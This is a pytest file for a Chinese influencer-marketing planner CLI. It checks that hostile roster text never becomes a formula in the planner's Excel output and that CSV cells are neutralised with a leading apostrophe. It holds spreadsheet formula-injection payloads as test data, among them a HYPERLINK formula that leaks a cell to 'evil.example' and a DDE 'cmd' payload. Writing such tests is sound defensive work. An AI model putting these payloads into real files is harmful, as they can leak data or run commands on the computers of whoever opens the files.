"""Formula injection: text from the buyer's files never becomes a spreadsheet formula.

A roster whose video ids, KOL names, products and landing pages start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return goes through
``planner plan``. In ``plan.xlsx`` no cell anywhere may be a formula and the
hostile text must be there verbatim as a string; in every CSV the planner
writes, such text must start with ``'``.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from planner.cli import app
from planner.io.plan_files import inert_text, write_csv

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_data"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# What a buyer's roster (or a prankster's) may hold. The readers trim cells, so
# a leading tab or carriage return reaches the outputs as the text after it.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
    "=1+2",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1 tab",
    "\r=1+1 cr",
    '+小美, "正品"好物',
    "-@小助手官方",
]
ID_PREFIXES = ["=", "+", "-", "@", "=HYPERLINK(\"x\")&"]
HOSTILE_URLS = ["=evil.example/x?a=1", "-https://evil.example", "@evil", "+1", "\t=2"]


def _hostile_roster(path: Path) -> list[dict[str, str]]:
    with (SAMPLE / "videos.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for i, row in enumerate(rows):
        row["kol_name"] = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
        row["product"] = HOSTILE_NAMES[(i + 3) % len(HOSTILE_NAMES)]
        if i % 3 == 0:
            row["landing_url"] = HOSTILE_URLS[i % len(HOSTILE_URLS)]
        if row["video_id"] != "v0012":  # the campaign's commitment keeps its video
            row["video_id"] = ID_PREFIXES[i % len(ID_PREFIXES)] + row["video_id"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


@pytest.fixture(scope="module")
def planned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, str]]]:
    tmp = tmp_path_factory.mktemp("injection")
    roster = _hostile_roster(tmp / "videos.csv")
    campaign = tmp / "campaign.toml"
    text = (SAMPLE / "campaign_tmall.toml").read_text("utf-8")
    campaign.write_text(text.replace('name = "618 种草收割 2027"', 'name = "=618+1"'), "utf-8")
    out = tmp / "out"
    result = CliRunner().invoke(app, [
        "plan", "--campaign", str(campaign), "--videos", str(tmp / "videos.csv"),
        "--out", str(out),
    ])
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    return out, roster


def _xlsx_strings(path: Path) -> list[str]:
    """Every string cell of every sheet; fails on any formula cell."""
    book = openpyxl.load_workbook(path)  # not data_only: formulas would show as such
    strings: list[str] = []
    try:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (
                        f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    )
                    if isinstance(cell.value, str):
                        strings.append(cell.value)
    finally:
        book.close()
    return strings


def test_plan_xlsx_holds_hostile_text_as_strings_never_formulas(
    planned: tuple[Path, list[dict[str, str]]],
) -> None:
    out, roster = planned
    strings = _xlsx_strings(out / "plan.xlsx")
    assert any(s.startswith(DANGEROUS) for s in strings)
    # The ids and names of videos the plan buys are there exactly as read (trimmed).
    plan = json.loads((out / "plan.json").read_text("utf-8"))
    bought = {o["video_id"] for o in plan["orders"]}
    names = {r["video_id"]: r["kol_name"].strip() for r in roster}
    hostile_bought = sorted(v for v in bought if v.startswith(DANGEROUS))
    assert hostile_bought, "the plan buys at least one video with a hostile id"
    for video_id in hostile_bought:
        assert video_id in strings
    hostile_names = {names[v] for v in bought if names[v].startswith(DANGEROUS)}
    assert len(hostile_names) >= 3
    for name in hostile_names:
        assert name in strings, f"{name!r} missing from plan.xlsx"
    assert "=618+1" in strings  # the campaign name on the Summary sheet


def test_every_csv_the_planner_writes_defuses_hostile_text(
    planned: tuple[Path, list[dict[str, str]]],
) -> None:
    out, _ = planned
    csvs = sorted(out.glob("*.csv"))
    assert csvs, "plan writes links.csv"
    cells = 0
    for path in csvs:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM so Excel reads Chinese
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(DANGEROUS), f"{path.name}: {cell!r}"
    with (out / "links.csv").open(encoding="utf-8-sig", newline="") as handle:
        links = list(csv.DictReader(handle))
    assert any(r["kol_name"].startswith("'=") for r in links)
    assert any(r["video_id"].startswith(("'=", "'+", "'-", "'@")) for r in links)
    assert cells > 100


@pytest.mark.parametrize("text", [*HOSTILE_NAMES, *HOSTILE_URLS, "\rabc", "\tabc"])
def test_write_csv_prefixes_each_dangerous_text(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({
        "kol_name": [text, "安全的名字"],
        text: ["header too", "x"],  # a hostile column name
        "budget": [1000.0, -5.0],  # numbers stay numbers, even negative ones
    })
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["kol_name", "'" + text, "budget"]
    assert rows[1] == ["'" + text, "header too", "1000.0"]
    assert rows[2] == ["安全的名字", "x", "-5.0"]
    assert inert_text(text) == "'" + text
    assert inert_text("安全的名字") == "安全的名字"
